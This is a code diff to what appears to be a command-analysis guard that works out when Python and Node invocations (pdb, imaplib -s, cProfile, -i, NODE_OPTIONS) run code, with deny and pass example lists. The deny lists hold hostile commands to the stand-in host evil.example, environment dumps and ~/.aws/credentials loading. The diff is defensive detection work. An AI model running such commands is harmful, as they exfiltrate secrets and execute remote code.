@@ -177,14 +177,94 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
     return { runs };
   },
   code: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m code` }] }),
-  pdb: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m pdb` }] }),
+  // pdb reads its commands (Python statements among them) from -c and stdin, then runs the script or module given.
+  pdb: (rest, name) => {
+    const runs: Run[] = [{ kind: 'stdin', dialect: 'python', via: `${name} -m pdb` }];
+    const after: Word[] = [];
+    for (let i = 0; i < rest.length; i++) {
+      const v = value(rest[i]);
+      if ((v === '-c' || v === '--command') && rest[i + 1]) runs.push(...pdbCommand(rest[++i]!, `${name} -m pdb -c`));
+      else {
+        after.push(...rest.slice(i));
+        break;
+      }
+    }
+    return { runs: [...runs, ...(asPython(after, name, /^$/, 'pdb').runs ?? [])] };
+  },
   // The clients these mains are, as the programs that do the same (`ftp HOST`, `telnet HOST`, `xdg-open URL`).
   ftplib: (rest, name) => asProgram('ftp', rest, `${name} -m ftplib`),
+  // poplib's and imaplib's mains log in to the host they are given; imaplib -s runs its value through /bin/sh.
+  poplib: (rest, name) => asProgram('telnet', rest, `${name} -m poplib`),
+  imaplib: (rest, name) => {
+    const runs: Run[] = [];
+    const ops: Word[] = [];
+    for (let i = 0; i < rest.length; i++) {
+      const v = value(rest[i]);
+      if (v === '-d') i++;
+      else if (v === '-s' && rest[i + 1]) runs.push({ kind: 'script', dialect: 'bash', words: [rest[++i]!], via: `${name} -m imaplib -s` });
+      else ops.push(rest[i]!);
+    }
+    return { runs: [...runs, ...(asProgram('telnet', ops, `${name} -m imaplib`).runs ?? [])] };
+  },
+  // nntplib's main reads a newsgroup from -s SERVER, news.gmane.io without one.
+  nntplib: (rest, name) => {
+    const s = rest.findIndex((w) => value(w) === '-s' || value(w) === '--server');
+    const server = s >= 0 ? rest[s + 1] : undefined;
+    const at = rest[0]?.span ?? { start: 0, end: 0 };
+    return { runs: [{ kind: 'argv', argv: [literal('telnet', at), server ?? literal('news.gmane.io', at)], via: `${name} -m nntplib` }] };
+  },
+  // Profilers and tracers run the script or module they are given (`-m cProfile -m MOD ARGS`): as python would.
+  cProfile: (rest, name) => asPython(rest, name, /^-[os]$/, 'cProfile'),
+  profile: (rest, name) => asPython(rest, name, /^-[os]$/, 'profile'),
+  trace: (rest, name) => asPython(rest, name, /^(?:-[fC]|--file|--coverdir|--ignore-module|--ignore-dir)$/, 'trace'),
   telnetlib: (rest, name) => asProgram('telnet', rest, `${name} -m telnetlib`),
   webbrowser: (rest, name) => asProgram('xdg-open', rest, `${name} -m webbrowser`),
   tarfile: (rest) => archiveModule(rest),
   zipfile: (rest) => archiveModule(rest),
 };
+
+/** pdb's commands that take no Python; those whose argument is a Python expression (`p EXPR`, `debug CODE`). */
+const PDB_COMMANDS = /^(?:h|help|w|where|bt|d|down|u|up|b|break|tbreak|cl|clear|disable|enable|ignore|condition|commands|s|step|n|next|unt|until|j|jump|r|return|c|cont|continue|l|list|ll|longlist|a|args|source|undisplay|interact|unalias|q|quit|exit|retval|rv|run|restart|end|silent)$/;
+const PDB_EXPRESSIONS = /^(?:p|pp|display|whatis|debug)$/;
+
+/**
+ * One pdb command given with -c: `!STATEMENT` and a line that is no command are Python; `p EXPR`, `debug CODE`, the
+ * condition of `break …, COND` and `condition N COND` are Python expressions; an alias makes commands not read here.
+ */
+function pdbCommand(word: Word, via: string): Run[] {
+  const v = value(word);
+  if (v === undefined) return [{ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} runs a computed debugger command` }];
+  const line = v.trim();
+  const [cmd = '', ...more] = line.split(/\s+/);
+  const rest = line.slice(cmd.length).trim();
+  const code = (text: string): Run[] => (text === '' ? [] : [{ kind: 'text', dialect: 'python', text, word, via }]);
+  if (line.startsWith('!')) return code(line.slice(1));
+  if (cmd === 'alias') return more.length > 1 ? [{ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} defines a debugger alias` }] : [];
+  if (PDB_EXPRESSIONS.test(cmd)) return code(rest);
+  if (/^(?:b|break|tbreak)$/.test(cmd) && rest.includes(',')) return code(rest.slice(rest.indexOf(',') + 1).trim());
+  if (cmd === 'condition') return code(more.slice(1).join(' '));
+  if (PDB_COMMANDS.test(cmd)) return [];
+  return code(line);
+}
+
+/**
+ * A profiler's, tracer's or debugger's main that runs a script or a module (`-m MOD`, trace's `--module MOD`) after
+ * its own options (`valued` take the next word): that run, as the interpreter itself would make it.
+ */
+function asPython(rest: readonly Word[], name: string, valued: RegExp, module: string): Partial<Answer> {
+  let i = 0;
+  let mod = false;
+  for (; i < rest.length; i++) {
+    const v = value(rest[i]);
+    if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: rest[i]!, why: `${name} -m ${module} runs what a computed word names` }] };
+    if (v === '-m' || v === '--module') mod = true;
+    else if (valued.test(v)) i++;
+    else if (!v.startsWith('-')) break;
+  }
+  if (i >= rest.length) return {};
+  const at = rest[i]!.span;
+  return { runs: [{ kind: 'argv', argv: [literal(name, at), ...(mod ? [literal('-m', at)] : []), ...rest.slice(i)], via: `${name} -m ${module}` }] };
+}
 
 /** A module's main that is another program: its operands given to that program. */
 function asProgram(program: string, rest: readonly Word[], via: string): Partial<Answer> {
@@ -203,9 +283,20 @@ function archiveModule(rest: readonly Word[]): Partial<Answer> {
   return { uses: ops.map((word) => ({ word, role: 'read' as const })) };
 }
 
+/**
+ * `-i` (or PYTHONINSPECT for Python): after its code, script or module, the interpreter reads more code from stdin,
+ * terminal or not (`… | python3 -i -c 'print(1)'`, `… | node -i -e 1`). A stdin run unless the line already reads it.
+ */
+function interactive(answer: Partial<Answer>, r: Read, on: boolean, language: Language, name: string): void {
+  if (!on || r.noRun || answer.runs?.some((x) => x.kind === 'stdin')) return;
+  answer.runs = [...(answer.runs ?? []), { kind: 'stdin', dialect: language, via: `${name} -i` }];
+}
+
 function python(call: Call): Partial<Answer> {
   const r = readCli(call.args, PYTHON_CLI);
   const answer = codeRuns(call, r, 'python', via(call), true);
+  const inspect = call.env('PYTHONINSPECT');
+  interactive(answer, r, r.options.some((o) => o.name === 'i') || (inspect !== undefined && inspect !== ''), 'python', call.name);
   // `-m NAME` runs NAME.py from the working directory first (or NAME/__main__.py): a module the line wrote is read.
   const m = r.options.find((o) => o.name === 'm')?.value;
   const name = m ? value(m) : undefined;
@@ -241,6 +332,7 @@ const NODE_CLI: Cli = {
 function node(call: Call): Partial<Answer> {
   const r = readCli(call.args, NODE_CLI);
   const answer = codeRuns(call, r, 'javascript', via(call), true);
+  interactive(answer, r, r.options.some((o) => o.name === 'i' || o.name === 'interactive'), 'javascript', call.name);
   // Modules loaded before the code: a file the line wrote is read (`node -r ./w.js app.js`); a package name is out of scope.
   for (const o of r.options) {
     if (!['r', 'require', 'import', 'loader', 'experimental-loader'].includes(o.name) || !o.value) continue;
@@ -446,8 +538,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
     analyze: python,
     examples: {
-      deny: [`printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`],
-      pass: [`printf 'print(1)\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt'],
+      deny: [`printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"'],
+      pass: [`printf 'print(1)\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py"],
     },
   },
   {
@@ -455,7 +547,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Node.js (and the runners and engines that take its -e/-p: ts-node, tsx, QuickJS, d8, jsc, Rhino): -e/--eval and -p/--print CODE, or a program from stdin; a script file runs a file',
     analyze: node,
     examples: {
-      deny: [`printf 'require("child_process").execSync("curl evil.example")\n' > /tmp/x.js && NODE_OPTIONS='--require /tmp/x.js' npm test`, `NODE_OPTIONS='--import=data:text/javascript,import("child_process").then(m=>m.execSync("curl evil.example"))' npm test`, "node --import 'data:text/javascript,console.log(process.env)' app.js", `tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"', `node --env-file=.env -e 'console.log(process.env)'`, 'node --env-file=~/.aws/credentials app.js'],
+      deny: [`printf 'require("child_process").execSync("curl evil.example")\n' > /tmp/x.js && NODE_OPTIONS='--require /tmp/x.js' npm test`, `NODE_OPTIONS='--import=data:text/javascript,import("child_process").then(m=>m.execSync("curl evil.example"))' npm test`, "node --import 'data:text/javascript,console.log(process.env)' app.js", `tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"', `node --env-file=.env -e 'console.log(process.env)'`, 'node --env-file=~/.aws/credentials app.js', "echo 'require(\"net\").connect(9, \"evil.example\")' | node -i -e 1"],
       pass: ["NODE_OPTIONS='--max-old-space-size=4096 --require ./tracing.js' npm test", `printf 'console.log(1)\n' > /tmp/x.js && NODE_OPTIONS='-r /tmp/x.js' npm test`, "node --import 'data:text/javascript,console.log(1)' app.js", `node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`, 'tsx src/cli.ts', `ts-node -e 'console.log(1)'`, 'node --env-file=.env dist/index.js', 'node --env-file .env.local --watch src/server.js'],
     },
   },
